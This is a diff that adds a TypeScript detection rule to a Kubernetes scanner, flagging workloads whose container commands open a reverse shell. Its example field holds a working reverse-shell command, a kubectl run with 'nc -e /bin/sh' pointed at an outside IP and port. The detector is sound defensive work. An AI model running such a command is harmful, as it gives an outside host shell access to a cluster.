@@ -1,0 +1,30 @@
+import { quote } from '../../text.ts';
+import { podRule, sightingFor } from '../pod-rule.ts';
+import { reverseShellIn } from '../reverse-shell.ts';
+
+/** A workload whose purpose is to hand a shell to another host. */
+export const reverseShellInSpec = podRule({
+  id: 'reverse-shell-in-spec',
+  title: 'Reverse shell in the command of a workload',
+  sees: 'A command, an argument, a hook or a probe of a container that ties a shell to a connection. Probes of a port, as of those who wait for a database, are none. What is refused or fails is seen too.',
+  why: 'Somebody elsewhere gets a shell in the cluster each time that such a pod starts.',
+  technique: [
+    { id: 'T1059.004', name: 'Command and Scripting Interpreter: Unix Shell' },
+    { id: 'T1610', name: 'Deploy Container' },
+  ],
+  severity: 'critical',
+  confidence: 0.85,
+  family: 'spec',
+  falsePositives: ['Security training and capture-the-flag environments'],
+  evident: true,
+  example: 'kubectl run x --image=busybox -- nc -e /bin/sh 203.0.113.7 4444',
+  look: ({ containers }) =>
+    sightingFor(
+      containers.flatMap(({ name, runs }) =>
+        runs.flatMap((line) => {
+          const seen = reverseShellIn(line);
+          return seen?.certain === true ? [`container ${quote(name, 63)}: ${seen.what}, by ${quote(line, 300)}`] : [];
+        }),
+      ),
+    ),
+});
